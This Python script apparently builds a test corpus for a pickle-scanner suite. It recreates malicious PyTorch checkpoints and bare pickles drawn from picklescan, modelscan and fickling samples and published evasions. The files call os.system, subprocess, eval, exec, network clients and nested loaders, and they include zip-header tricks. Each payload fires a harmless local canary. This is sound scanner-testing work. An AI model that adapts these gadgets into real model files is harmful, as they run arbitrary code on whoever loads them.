#!/usr/bin/env python3
"""The pickle scanners' own corpora, rebuilt (tests/suite/pickle.rs). Run with the venv python,
which has torch and picklescan.

  corpus.py write DIR MARKER
      writes DIR/<sample>.pt (or .bin), one per malicious sample of picklescan's tests and
      advisories, modelscan's and fickling's test samples and the published evasions, each made
      again here the same way with a payload that leaves a canary (creates MARKER, or connects
      to a listener on 127.0.0.1), and each proven malicious: torch.load(weights_only=False) in
      a child process must fire the canary. Prints JSON {file: {"named": the global the refusal
      must name (as Python resolves it), "source": where the sample comes from, "picklescan":
      the globals picklescan calls dangerous in it}}.

Samples are of two kinds: a torch.save checkpoint of real tensors whose data.pkl calls the
global before it builds the state dict (so that a scanner that misses the call would offer the
file as safetensors), and a file of bare pickles as the scanners' tests write them.
"""

import json
import marshal
import os
import pickle
import struct
import sys
import warnings
import zipfile

import torch
from picklescan.scanner import SafetyLevel, scan_file_path

from trapkit import Canary, command_line, Ops, call, glob, obj, sglob, u, with_prefix

warnings.filterwarnings("ignore")


def inner_pickle(cmd):
    """A pickle (bytes) that calls os.system(cmd): what a nested loader unpickles."""
    return b"\x80\x02cposix\nsystem\n(" + u(cmd) + b"tR."


def gadgets(c, workdir):
    """(name, source, prefix, protocol, named): a call of a global off the allow-list, with
    arguments that fire the canary `c`."""
    m = c.marker
    sh = f"touch {m}"
    py = f"open({m!r}, 'w').close()"
    host = ("127.0.0.1", c.port)
    url = f"http://127.0.0.1:{c.port}/x"
    inner = inner_pickle(sh)
    evil_pt = os.path.join(workdir, "inner.pt")
    with open(evil_pt, "wb") as f:
        f.write(inner)
    script = os.path.join(workdir, "payload.py")
    with open(script, "w") as f:
        f.write(py + "\n")
    builtins = glob("__builtin__", "eval")
    join = call(glob("builtins", "getattr"), "", "join")
    imp = lambda mod: call(sglob("builtins", "__import__"), mod)  # noqa: E731
    ps = "picklescan deny-list"
    adv = "picklescan advisory"
    return [
        # The builtins, by every opcode that calls.
        ("eval_reduce", ps, call(builtins, py), 2, "builtins.eval"),
        ("exec_inst", ps, Ops(b"(" + u(py) + b"i__builtin__\nexec\n"), 2, "builtins.exec"),
        ("exec_obj", ps, Ops(b"(" + glob("builtins", "exec") + u(py) + b"o"), 2,
         "builtins.exec"),
        ("compile_eval", ps, call(builtins, Ops(call(glob("__builtin__", "compile"), py, "",
                                                      "exec"))), 2, "builtins.compile"),
        ("getattr_import", ps, call(call(glob("builtins", "getattr"), imp("os"), "system"), sh),
         4, "builtins.getattr"),
        ("open_write", ps, call(glob("builtins", "open"), m, "w"), 2, "builtins.open"),
        ("import_attrgetter", "picklescan malicious12",
         call(call(call(sglob("operator", "attrgetter"), "system"), imp("os")), sh), 4,
         "operator.attrgetter"),
        ("methodcaller", ps, call(call(sglob("_operator", "methodcaller"), "system", sh),
                                  imp("os")), 4, "_operator.methodcaller"),
        ("itemgetter", ps, call(call(call(sglob("operator", "itemgetter"), "system"),
                                     call(sglob("builtins", "vars"), imp("os"))), sh), 4,
         "operator.itemgetter"),
        ("functools_partial", ps, call(call(glob("functools", "partial"), glob("posix", "system"),
                                            sh)), 2, "functools.partial"),
        ("pkgutil_resolve_name", adv, call(call(glob("pkgutil", "resolve_name"), "os:system"),
                                           sh), 2, "pkgutil.resolve_name"),
        ("pydoc_locate", adv, call(call(glob("pydoc", "locate"), "os.system"), sh), 2,
         "pydoc.locate"),
        ("importlib_import_module", "picklescan importlib bypass",
         call(call(glob("builtins", "getattr"),
                   call(glob("importlib", "import_module"), "os"), "system"), sh), 2,
         "importlib.import_module"),
        # Processes.
        ("os_system", ps, call(glob("os", "system"), sh), 2, "os.system"),
        ("posix_system", ps, call(glob("posix", "system"), sh), 2, "posix.system"),
        ("os_popen", ps, call(glob("os", "popen"), sh), 2, "os.popen"),
        ("os_execvp", ps, call(glob("os", "execvp"), "touch", ["touch", m]), 2, "os.execvp"),
        ("os_spawnlp", ps, call(glob("os", "spawnlp"), 0, "touch", "touch", m), 2, "os.spawnlp"),
        ("posix_spawn", ps, call(glob("posix", "posix_spawn"), "/usr/bin/touch", ["touch", m],
                                 {}), 2, "posix.posix_spawn"),
        ("subprocess_run", "picklescan malicious8", call(glob("subprocess", "run"), ["touch", m]),
         2, "subprocess.run"),
        ("subprocess_popen", ps, call(glob("subprocess", "Popen"), ["touch", m]), 2,
         "subprocess.Popen"),
        ("subprocess_call", ps, call(glob("subprocess", "call"), ["touch", m]), 2,
         "subprocess.call"),
        ("subprocess_check_output", ps, call(glob("subprocess", "check_output"), ["touch", m]), 2,
         "subprocess.check_output"),
        ("subprocess_getstatusoutput", ps, call(glob("subprocess", "getstatusoutput"), sh), 2,
         "subprocess.getstatusoutput"),
        ("pty_spawn", ps, call(glob("pty", "spawn"), ["touch", m]), 2, "pty.spawn"),
        ("asyncio_run", ps, call(glob("asyncio", "run"),
                                 call(glob("asyncio", "create_subprocess_shell"), sh)), 2,
         "asyncio.run"),
        ("sys_call_tracing", ps, call(glob("sys", "call_tracing"), glob("posix", "system"),
                                      (sh,)), 2, "sys.call_tracing"),
        ("imaplib_stream", adv, call(glob("imaplib", "IMAP4_stream"), sh), 2,
         "imaplib.IMAP4_stream"),
        ("uuid_command_stdout", adv, call(glob("uuid", "_get_command_stdout"), "touch", m), 2,
         "uuid._get_command_stdout"),
        ("osx_support_read_output", adv, call(glob("_osx_support", "_read_output"), sh), 2,
         "_osx_support._read_output"),
        ("pydoc_pipepager", adv, call(glob("pydoc", "pipepager"), "", sh), 2, "pydoc.pipepager"),
        ("webbrowser_open", ps, call(glob("webbrowser", "open"), m), 2, "webbrowser.open"),
        ("collect_env_run", adv, call(glob("torch.utils.collect_env", "run"), sh), 2,
         "torch.utils.collect_env.run"),
        ("script_helper", adv, call(glob("test.support.script_helper", "assert_python_ok"),
                                    "-c", py), 2, "test.support.script_helper.assert_python_ok"),
        ("ensurepip_run_pip", adv, call(glob("ensurepip", "_run_pip"), f"[]\n{py}\n#"), 2,
         "ensurepip._run_pip"),
        ("ctypes_cdll", ps, call(call(glob("builtins", "getattr"), call(glob("ctypes", "CDLL"),
                                                                       None), "system"),
                                 sh.encode()), 2, "ctypes.CDLL"),
        # Code run from a string.
        ("runpy_run_code", ps, call(glob("runpy", "_run_code"), py, {}), 2, "runpy._run_code"),
        ("cprofile_run", adv, call(glob("cProfile", "run"), py), 2, "cProfile.run"),
        ("profile_run", adv, call(glob("profile", "run"), py), 2, "profile.run"),
        ("timeit_setup", adv, call(glob("timeit", "timeit"), "pass", py, None, 1), 2,
         "timeit.timeit"),
        ("bdb_run", ps, call(sglob("bdb", "Bdb.run"), call(sglob("bdb", "Bdb")), py), 4,
         "bdb.Bdb.run"),
        ("trace_runctx", adv, call(sglob("trace", "Trace.runctx"), call(sglob("trace", "Trace")),
                                   py, {}, {}), 4, "trace.Trace.runctx"),
        ("code_runcode", adv, call(sglob("code", "InteractiveInterpreter.runcode"),
                                   call(sglob("code", "InteractiveInterpreter")), py), 4,
         "code.InteractiveInterpreter.runcode"),
        ("numpy_runstring", adv, call(glob("numpy.testing._private.utils", "runstring"), py, {}),
         2, "numpy.testing._private.utils.runstring"),
        ("numpy_f2py_myeval", adv, call(glob("numpy.f2py.crackfortran", "myeval"), py), 2,
         "numpy.f2py.crackfortran.myeval"),
        ("idlelib_calltip", adv, call(glob("idlelib.calltip", "get_entity"), py), 2,
         "idlelib.calltip.get_entity"),
        ("idlelib_autocomplete", adv, call(sglob("idlelib.autocomplete", "AutoComplete.get_entity"),
                                           call(sglob("idlelib.autocomplete", "AutoComplete")),
                                           py), 4, "idlelib.autocomplete.AutoComplete.get_entity"),
        ("idlelib_debugobj", adv, call(sglob("idlelib.debugobj", "ObjectTreeItem.SetText"),
                                       call(sglob("idlelib.debugobj", "ObjectTreeItem"), "",
                                            None), py), 4,
         "idlelib.debugobj.ObjectTreeItem.SetText"),
        ("jit_exec_wrapper", "issue 31", call(glob("torch.jit.unsupported_tensor_ops",
                                                   "execWrapper"), py, {}, {}), 2,
         "torch.jit.unsupported_tensor_ops.execWrapper"),
        ("shape_env_guards", "issue 31", call(
            sglob("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
            call(sglob("torch.fx.experimental.symbolic_shapes", "ShapeEnv")), py, []), 4,
         "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression"),
        # Pickles inside the pickle, unpickled by the call.
        ("pickle_loads", "picklescan malicious13", call(glob("pickle", "loads"), inner), 2,
         "pickle.loads"),
        ("cpickle_loads", "picklescan malicious13a", call(glob("cPickle", "loads"), inner), 2,
         "pickle.loads (written cPickle.loads)"),
        ("_pickle_loads", "picklescan malicious13b", call(sglob("_pickle", "loads"), inner), 4,
         "_pickle.loads"),
        ("grammar_loads", adv, call(sglob("lib2to3.pgen2.grammar", "Grammar.loads"),
                                    call(sglob("lib2to3.pgen2.grammar", "Grammar")), inner), 4,
         "lib2to3.pgen2.grammar.Grammar.loads"),
        ("config_module_load_config", adv, call(
            sglob("torch.utils._config_module", "ConfigModule.load_config"),
            glob("torch._dynamo", "config"), inner), 4,
         "torch.utils._config_module.ConfigModule.load_config"),
        ("datapipes_basichandlers", "issue 31", call(
            glob("torch.utils.data.datapipes.utils.decoder", "basichandlers"), "pickle", inner), 2,
         "torch.utils.data.datapipes.utils.decoder.basichandlers"),
        # A pickle module given makes torch.load's weights_only default False.
        ("torch_serialization_load", ps, call(glob("torch.serialization", "load"), evil_pt, None,
                                              glob("torch.serialization", "pickle")), 2,
         "torch.serialization.load"),
        ("torch_load", ps, call(glob("torch", "load"), evil_pt, None, glob("torch.serialization",
                                                                          "pickle")), 2,
         "torch.load"),
        # Files written.
        ("logging_filehandler", adv, call(glob("logging", "FileHandler"), m), 2,
         "logging.FileHandler"),
        ("io_fileio", adv, call(glob("_io", "FileIO"), m, "w"), 2, "_io.FileIO"),
        ("shutil_copyfile", ps, call(glob("shutil", "copyfile"), evil_pt, m), 2,
         "shutil.copyfile"),
        ("distutils_write_file", adv, call(glob("distutils.file_util", "write_file"), m, []), 2,
         "distutils.file_util.write_file"),
        ("venv_create", adv, call(glob("venv", "create"), m), 2, "venv.create"),
        ("torch_from_file", "issue 31", call(glob("torch", "from_file"), m, True, 4), 2,
         "torch.from_file"),
        # The network.
        ("socket_create_connection", "picklescan malicious7",
         call(glob("socket", "create_connection"), host), 2, "socket.create_connection"),
        ("ssl_get_server_certificate", "picklescan dns exfiltration",
         call(glob("ssl", "get_server_certificate"), host), 2, "ssl.get_server_certificate"),
        ("httplib_connect", "picklescan malicious3",
         call(call(glob("builtins", "getattr"), call(glob("httplib", "HTTPConnection"), *host),
                   "connect")), 2, "http.client.HTTPConnection (written httplib.HTTPConnection)"),
        ("urllib_urlopen", adv, call(glob("urllib.request", "urlopen"), url), 2,
         "urllib.request.urlopen"),
        ("requests_get", "picklescan malicious4", call(glob("requests.api", "get"), url), 2,
         "requests.api.get"),
        ("model_zoo_load_url", "issue 31", call(glob("torch.utils.model_zoo", "load_url"), url), 2,
         "torch.utils.model_zoo.load_url"),
        ("smtplib_obj_pop", "fickling (a call by OBJ, its result popped)",
         Ops(b"(" + sglob("smtplib", "SMTP") + obj(host[0]) + obj(host[1]) + b"o"), 4,
         "smtplib.SMTP"),
        ("imaplib_imap4", "fickling (network clients)", call(glob("imaplib", "IMAP4"), *host), 2,
         "imaplib.IMAP4"),
        ("poplib_pop3", "fickling (network clients)", call(glob("poplib", "POP3"), *host), 2,
         "poplib.POP3"),
        ("telnetlib_telnet", "fickling (network clients)", call(glob("telnetlib", "Telnet"), *host),
         2, "telnetlib.Telnet"),
        ("nntplib_nntp", "fickling (network clients)", call(glob("nntplib", "NNTP"), *host), 2,
         "nntplib.NNTP"),
        ("ftplib_connect", "fickling (network clients)",
         call(sglob("ftplib", "FTP.connect"), call(sglob("ftplib", "FTP")), *host), 4,
         "ftplib.FTP.connect"),
        # modelscan's and fickling's other samples.
        ("dotted_eval_call", "modelscan malicious13 (a dotted GLOBAL)",
         call(glob("builtins", "eval.__call__"), py), 4, "builtins.eval.__call__"),
        ("bdb_newobj_build", "modelscan malicious15 (NEWOBJ, BUILD)",
         call(sglob("bdb", "Bdb.run"), Ops(sglob("bdb", "Bdb") + b")\x81" + obj(
             {"skip": None, "breaks": {}, "fncache": {}, "frame_returning": None}) + b"b"), py), 4,
         "bdb.Bdb.run"),
        ("mailcap_findmatch", "modelscan (mailcap)", call(glob("mailcap", "findmatch"), {
            "text/plain": [{"view": "true", "test": sh}]}, "text/plain"), 2, "mailcap.findmatch"),
        ("numpy_prod_setattr", "modelscan issue 85 (BUILD sets the names, dotted GLOBALs)",
         Ops(glob("numpy", "prod") + obj((None, {"a": "os", "b": "system"})) + b"b0"
             + call(Ops(glob("numpy", "prod.a") + glob("numpy", "prod.b") + b"\x93"), sh)), 4,
         "numpy.prod"),
        ("builtins_dict_get", "modelscan issue 89 (dict.get of numpy.__builtins__)",
         call(call(glob("builtins", "dict.get"), glob("numpy", "__builtins__"), "exec"), py), 4,
         "builtins.dict.get"),
        ("import_module_join", "modelscan issue 331 (names joined at load)",
         call(call(glob("builtins", "getattr"), call(glob("importlib", "import_module"),
                                                     call(join, ["o", "s"])),
                   call(join, ["sys", "tem"])), sh), 2, "importlib.import_module"),
        ("computed_join", "fickling CTF (STACK_GLOBAL of joined names)",
         call(Ops(call(join, ["o", "s"]) + call(join, ["sys", "tem"]) + b"\x93"), sh), 4,
         "a global whose name the pickle computes"),
        ("spawnv_passfds", "fickling (multiprocessing)",
         call(glob("multiprocessing.util", "spawnv_passfds"), b"/bin/sh",
              [b"/bin/sh", b"-c", sh.encode()], ()), 2, "multiprocessing.util.spawnv_passfds"),
        ("marshal_function", "fickling (marshal, FunctionType)",
         call(call(glob("types", "FunctionType"), call(glob("marshal", "loads"), marshal.dumps(
             compile(py, "<sample>", "exec"))), {})), 2, "marshal.loads"),
        ("runpy_run_path", "fickling (runpy)", call(glob("runpy", "run_path"), script), 2,
         "runpy.run_path"),
        ("asyncio_transport_start", "fickling (asyncio)",
         call(sglob("asyncio.unix_events", "_UnixSubprocessTransport._start"), {}, sh, True, None,
              None, None, 0), 4, "asyncio.unix_events._UnixSubprocessTransport._start"),
        ("f2py_getlincoef", "fickling (numpy.f2py)",
         call(glob("numpy.f2py.crackfortran", "getlincoef"), py, {}), 2,
         "numpy.f2py.crackfortran.getlincoef"),
    ]


def code_object_prefix(m):
    """types.FunctionType(types.CodeType(...), {})(): a function built from its bytecode, as
    cloudpickle rebuilds one."""
    co = compile(f"open({m!r}, 'w').close()", "<sample>", "exec")
    args = (co.co_argcount, co.co_posonlyargcount, co.co_kwonlyargcount, co.co_nlocals,
            co.co_stacksize, co.co_flags, co.co_code, co.co_consts, co.co_names, co.co_varnames,
            co.co_filename, co.co_name, co.co_qualname, co.co_firstlineno, co.co_linetable,
            co.co_exceptiontable, co.co_freevars, co.co_cellvars)
    code = call(glob("types", "CodeType"), *args)
    return call(call(glob("types", "FunctionType"), code, {}))


def sour_pickle(py):
    """The 'Sour Pickles' (BlackHat 2011) sample of picklescan's tests: globals(), compile, eval,
    getattr(dict, 'get') and apply (which Python 3 lacks, after the call), protocol 0."""
    return (b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'" + py.encode()
            + b"'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\n"
            b"getattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\n"
            b"S'picklesmashed'\nltRp104\n0g104\n.")


class Call:
    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def bare_samples(c):
    """(name, source, bytes, named): files of bare pickles as the scanners' tests write them."""
    m = c.marker
    sh = f"touch {m}"
    py = f'open("{m}", "w").close()'
    url = f"http://127.0.0.1:{c.port}/x"
    import builtins
    import requests
    import subprocess
    out = []
    for proto in (0, 3, 4):
        out.append((f"malicious1_v{proto}", "picklescan malicious1",
                    pickle.dumps(Call(builtins.eval, py), protocol=proto), "builtins.eval"))
        out.append((f"malicious2_v{proto}", "picklescan malicious2",
                    pickle.dumps(Call(os.system, sh), protocol=proto), "posix.system"))
    out += [
        ("malicious0", "picklescan malicious0 (Sour Pickles)", sour_pickle(py), "builtins.compile"),
        ("malicious3", "picklescan malicious3",
         f"chttplib\nHTTPSConnection\n(V127.0.0.1\nI{c.port}\ntRp0\n0c__builtin__\ngetattr\n"
         "(g0\nS'connect'\ntR(tR.".encode(),
         "http.client.HTTPSConnection (written httplib.HTTPSConnection)"),
        ("malicious4", "picklescan malicious4", pickle.dumps(Call(requests.get, url), protocol=4),
         "requests.api.get"),
        ("malicious8", "picklescan malicious8",
         pickle.dumps(Call(subprocess.run, ["touch", m]), protocol=4), "subprocess.run"),
        ("malicious10", "picklescan malicious10 (INST)",
         b"(S'" + py.encode() + b"'\ni__builtin__\nexec\n.", "builtins.exec"),
        ("malicious11", "picklescan malicious11 (memoised STACK_GLOBAL operands, decoys)",
         b"".join([b"Vos\n", b"p2\n", b"0", b"Vsystem\n", b"p3\n", b"0", b"Vtorch\n", b"p0\n",
                   b"0", b"VLongStorage\n", b"p1\n", b"0", b"g2\n", b"g3\n", b"\x93", b"(",
                   b"V" + sh.encode() + b"\n", b"t", b"R", b"."]), "os.system"),
        ("malicious_invalid_bytes", "picklescan malicious-invalid-bytes",
         pickle.dumps(Call(os.system, sh), protocol=4)[:-1] + b"\xff\xfe garbage", "posix.system"),
        ("raw_unicode_escape", "published evasion (protocol 0 UNICODE escapes)",
         b"V\\u006fs\nV\\u0073ystem\n\x93(V" + sh.encode() + b"\ntR.", "os.system"),
        ("code_object", "picklescan cloudpickle code injection",
         b"\x80\x04" + code_object_prefix(m) + b".", "types.CodeType"),
    ]
    # fickling's attack vectors: callables as pickle.dumps writes them at every protocol (Python 2
    # names through the compat map below 3: `commands run`, `__builtin__ eval`).
    import pty
    import runpy
    import socket
    vectors = [(os.system, sh), (builtins.eval, py), (builtins.exec, py),
               (subprocess.run, ["touch", m]), (os.popen, sh), (pty.spawn, ["touch", m]),
               (runpy._run_code, py, {}), (socket.create_connection, ("127.0.0.1", c.port))]
    for f, *args in vectors:
        for proto in range(6):
            out.append((f"vector_{f.__module__}_{f.__name__}_v{proto}",
                        "fickling attack vectors (every protocol)",
                        pickle.dumps(Call(f, *args), protocol=proto),
                        f"{f.__module__}.{f.__qualname__}"))
    out = [(name + ".bin", *rest) for name, *rest in out]
    for ext in ("pth", "ckpt"):
        out.append((f"extension.{ext}", "fickling CVE-2025-10155 (any extension)",
                    pickle.dumps(Call(os.system, sh), protocol=4), "posix.system"))
    return out


def zip_variants(c, sd, out):
    """A torch.save checkpoint that calls os.system, written as picklescan's zip samples are: a
    general purpose flag (encrypted 0x1, patched 0x20, strong encryption 0x40) set in the local
    headers (where Python's zipfile refuses the entry and torch's reader ignores it), a CRC
    that does not match, a name in the local header that differs from the central
    directory's."""
    sh = f"touch {c.marker}"

    def base(name):
        path = os.path.join(out, name)
        torch.save(sd, path)
        with_prefix(path, call(glob("posix", "system"), sh) + b"0")
        return path, bytearray(open(path, "rb").read())

    def entry_offsets(data, sig):
        at = data.find(sig)
        while at != -1:
            yield at
            at = data.find(sig, at + 4)

    for flag in (0x1, 0x20, 0x40):
        name = f"zip_flag_{flag:#x}.pt"
        path, data = base(name)
        for at in entry_offsets(data, b"PK\x03\x04"):
            struct.pack_into("<H", data, at + 6, struct.unpack_from("<H", data, at + 6)[0] | flag)
        open(path, "wb").write(data)
        yield name, f"picklescan malicious1_{flag:#x}.zip", "posix.system"
    name = "zip_crc.pt"
    path, data = base(name)
    for at in entry_offsets(data, b"PK\x03\x04"):
        struct.pack_into("<I", data, at + 14, 0x12345678)
    for at in entry_offsets(data, b"PK\x01\x02"):
        struct.pack_into("<I", data, at + 16, 0x12345678)
    open(path, "wb").write(data)
    yield name, "picklescan malicious1_crc.zip", "posix.system"
    name = "zip_local_name.pt"
    path, data = base(name)
    for at in entry_offsets(data, b"PK\x03\x04"):
        n = struct.unpack_from("<H", data, at + 26)[0]
        fname = bytes(data[at + 30:at + 30 + n])
        if fname.endswith(b"/data.pkl"):
            data[at + 30:at + 30 + n] = fname[:-8] + b"xata.pkl"
    open(path, "wb").write(data)
    yield name, "picklescan malicious1_central_directory.zip", "posix.system"
    # An archive made by hand as fickling's tests make one: the pickle and a version, no data.
    name = "zip_by_hand.pt"
    with zipfile.ZipFile(os.path.join(out, name), "w") as z:
        z.writestr("model/data.pkl", inner_pickle(sh))
        z.writestr("model/version", "3\n")
    yield name, "fickling (a torch-like archive)", "posix.system"


def picklescan_dangerous(path):
    try:
        r = scan_file_path(path)
    except Exception:
        return []
    return sorted({f"{g.module}.{g.name}" for g in r.globals
                   if g.safety == SafetyLevel.Dangerous})


def write(out, marker):
    os.makedirs(out, exist_ok=True)
    c = Canary(marker)
    gen = torch.Generator().manual_seed(31)
    sd = {"w": torch.randn(3, 4, generator=gen), "b": torch.randn(4, generator=gen).half()}
    # What samples load from elsewhere lies beside the marker, out of the mounted tree.
    work = os.path.dirname(marker)
    samples = {}
    for name, source, prefix, proto, named in gadgets(c, work):
        path = os.path.join(out, name + ".pt")
        torch.save(sd, path)
        with_prefix(path, bytes(prefix) + b"0", proto)
        samples[name + ".pt"] = (source, named)
    for name, source, data, named in bare_samples(c):
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
        samples[name] = (source, named)
    for name, source, named in zip_variants(c, sd, out):
        samples[name] = (source, named)
    result = {}
    for name, (source, named) in sorted(samples.items()):
        path = os.path.join(out, name)
        c.prove(path, True)
        result[name] = {"named": named, "source": source,
                        "picklescan": picklescan_dangerous(path)}
    print(json.dumps(result, sort_keys=True))


if __name__ == "__main__":
    sys.exit(command_line(__doc__, write))
